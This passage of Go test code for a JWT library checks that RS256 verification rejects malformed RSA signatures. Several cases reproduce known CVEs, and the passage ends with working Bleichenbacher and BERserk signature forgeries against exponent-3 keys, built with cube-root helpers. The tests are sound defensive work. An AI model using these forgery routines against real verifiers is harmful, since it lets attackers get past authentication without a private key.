	for _, tc := range []struct {
		name string
		sig  []byte
		want error
	}{
		{"the right encoding", raw(padded(1, 0xff, digestInfo)), nil},
		{"s", number(s), nil},
		{"s + n", number(add(s, key.N)), invalid},
		{"s + n, a byte longer", add(s, new(big.Int).Mul(key.N, big.NewInt(256))).Bytes(), invalid},
		{"n - s", number(new(big.Int).Sub(key.N, s)), invalid},
		{"0", make([]byte, size), invalid},
		{"1", number(big.NewInt(1)), invalid},
		{"n", number(key.N), invalid},
		{"n - 1", number(new(big.Int).Sub(key.N, big.NewInt(1))), invalid},
		{"n + 1", number(add(key.N, big.NewInt(1))), invalid},
		{"unsigned encoding", padded(1, 0xff, digestInfo), invalid},

		{"garbage after (CVE-2006-4339)", raw(append(slices.Clone(short), garbage...)), invalid},
		{"garbage before", raw(slices.Concat(short[:11], garbage, digestInfo)), invalid},
		{"no padding", raw(slices.Concat(make([]byte, size-len(digestInfo)), digestInfo)), invalid},
		{"block type 0", raw(padded(0, 0, digestInfo)), invalid},
		{"block type 2", raw(padded(2, 0xff, digestInfo)), invalid},
		{"padding of zeros", raw(padded(1, 0, digestInfo)), invalid},
		{"padding with one other byte", raw(slices.Concat([]byte{0, 1, 0xfe}, padded(1, 0xff, digestInfo)[3:])), invalid},
		{"no zero after the padding", raw(slices.Concat([]byte{0, 1}, bytes.Repeat([]byte{0xff}, size-2-len(digestInfo)), digestInfo)), invalid},
		{"without NULL", raw(padded(1, 0xff, withoutNull)), invalid},
		{"long form of a length (CVE-2014-1568)", raw(padded(1, 0xff, longLength)), invalid},
		{"digest alone", raw(padded(1, 0xff, hash)), invalid},
		{"digest twice", raw(padded(1, 0xff, append(slices.Clone(digestInfo), hash...))), invalid},
		{"OID of SHA-512", raw(padded(1, 0xff, bytes.Replace(digestInfo, []byte{4, 2, 1}, []byte{4, 2, 3}, 1))), invalid},
		{"digest of nothing", raw(padded(1, 0xff, bytes.Replace(digestInfo, hash, sum(""), 1))), invalid},
	} {
		t.Run(tc.name, func(t *testing.T) { fails(t, auth, input+"."+b64(string(tc.sig)), tc.want) })
	}

	// With the exponent 3, two forgeries need no private key:
	//
	//   - The cube of a number begins as a short encoding does, with garbage after it
	//     (Bleichenbacher).
	//   - The cube of a number begins and ends as an encoding does, with garbage in the
	//     parameters of the algorithm (BERserk).
	three := mustNew[AppClaims](t, jwthttp.RS256(&rsa.PublicKey{N: key.N, E: 3}), jwthttp.Options{})
	cube := func(x *big.Int) []byte { return number(new(big.Int).Exp(x, big.NewInt(3), nil)) }
	behind := add(cubeRoot(new(big.Int).SetBytes(append(slices.Clone(short), make([]byte, size-len(short))...))), big.NewInt(1))
	if em := cube(behind); !bytes.HasPrefix(em, short) {
		t.Fatalf("no forgery: %x", em)
	}
	fails(t, three, input+"."+b64(string(number(behind))), invalid)

	begin := slices.Concat(short[:11], []byte{0x30, 0x82, 0, 241, 0x30, 0x82, 0, 203}, must(asn1.Marshal(oid)), []byte{0x04, 0x82, 0, 188})
	end := slices.Concat([]byte{0x04, 0x20}, hash)
	within := cubeRoot(new(big.Int).SetBytes(slices.Concat(begin, bytes.Repeat([]byte{0x80}, size-len(begin)))))
	low := cubeRootOfEnd(end)
	bits := uint(len(end) * 8)
	within = add(new(big.Int).Lsh(new(big.Int).Rsh(within, bits), bits), low)
	if em := cube(within); !bytes.HasPrefix(em, begin) || !bytes.HasSuffix(em, end) {
		t.Fatalf("no forgery: %x", em)
	}
	fails(t, three, input+"."+b64(string(number(within))), invalid)
}

// cubeRoot returns the cube root of n, rounded down.
func cubeRoot(n *big.Int) *big.Int {
	root := new(big.Int)
	for bit := n.BitLen()/3 + 1; bit >= 0; bit-- {
		root.SetBit(root, bit, 1)
		if new(big.Int).Exp(root, big.NewInt(3), nil).Cmp(n) > 0 {
			root.SetBit(root, bit, 0)
		}
	}
	return root
}

// cubeRootOfEnd returns a number whose cube ends in these bytes. The last byte must be odd.
func cubeRootOfEnd(end []byte) *big.Int {
	root, want := big.NewInt(1), new(big.Int).SetBytes(end)
	for bit := range len(end) * 8 {
		if new(big.Int).Exp(root, big.NewInt(3), nil).Bit(bit) != want.Bit(bit) {
			root.SetBit(root, bit, 1)
		}
	}
	return root
}
